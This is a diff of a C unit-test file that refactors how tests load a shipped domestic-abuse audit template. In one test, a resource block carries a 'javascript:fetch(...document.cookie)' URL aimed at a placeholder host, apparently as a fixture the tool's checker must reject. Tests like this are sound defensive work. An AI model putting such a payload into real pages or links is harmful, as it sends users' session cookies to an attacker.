@@ -228,17 +228,27 @@ static void test_check_passes_shipped_files_and_reports_file_line(void **state)
 	free(form);
 }
 
+/* The shipped domestic-abuse template's text (freed by the caller) and its count of lines, for
+ * a test that appends a block and names the line it lands on. */
+static char *shipped_template(size_t *lines)
+{
+	char *tpl = str_fmt("%s/audit-templates/domestic-abuse.ini", tu_source_dir());
+	char *text = tu_read(tpl, NULL);
+	free(tpl);
+	assert_non_null(text);
+	*lines = 0;
+	for (const char *p = text; *p; p++)
+		*lines += *p == '\n';
+	return text;
+}
+
 /* A [field FORM.FIELD] naming no field of the form installed would never be used: check
  * reports it at its line, with the field likely meant. */
 static void test_check_reports_wording_for_a_field_the_form_lacks(void **state)
 {
 	(void)state;
-	char *tpl = str_fmt("%s/audit-templates/domestic-abuse.ini", tu_source_dir());
-	char *orig = tu_read(tpl, NULL);
-	assert_non_null(orig);
-	size_t lines = 0;
-	for (const char *p = orig; *p; p++)
-		lines += *p == '\n';
+	size_t lines;
+	char *orig = shipped_template(&lines);
 	char *text = str_fmt("%s\n[field case.tag]\nlabel = Themes\n\n[field case.colour]\n"
 			     "label = Colour\n",
 			     orig);
@@ -261,7 +271,6 @@ static void test_check_reports_wording_for_a_field_the_form_lacks(void **state)
 	free(path);
 	free(text);
 	free(orig);
-	free(tpl);
 }
 
 static void test_new_list_and_case_add_on_fresh_database(void **state)
@@ -603,12 +612,8 @@ static void test_config_author_and_partnership_checked(void **state)
 static void test_resource_url_refused_with_file_line(void **state)
 {
 	(void)state;
-	char *tpl = str_fmt("%s/audit-templates/domestic-abuse.ini", tu_source_dir());
-	char *orig = tu_read(tpl, NULL);
-	assert_non_null(orig);
-	size_t lines = 0;
-	for (const char *p = orig; *p; p++)
-		lines += *p == '\n';
+	size_t lines;
+	char *orig = shipped_template(&lines);
 	char *text = str_fmt("%s\n[resource evil]\ntitle = Procedures\nurl = "
 			     "javascript:fetch('https://x.example/'+document.cookie)\n",
 			     orig);
@@ -632,7 +637,6 @@ static void test_resource_url_refused_with_file_line(void **state)
 	free(path);
 	free(text);
 	free(orig);
-	free(tpl);
 }
 
 static void test_refuses_non_maca_database_without_changing_it(void **state)
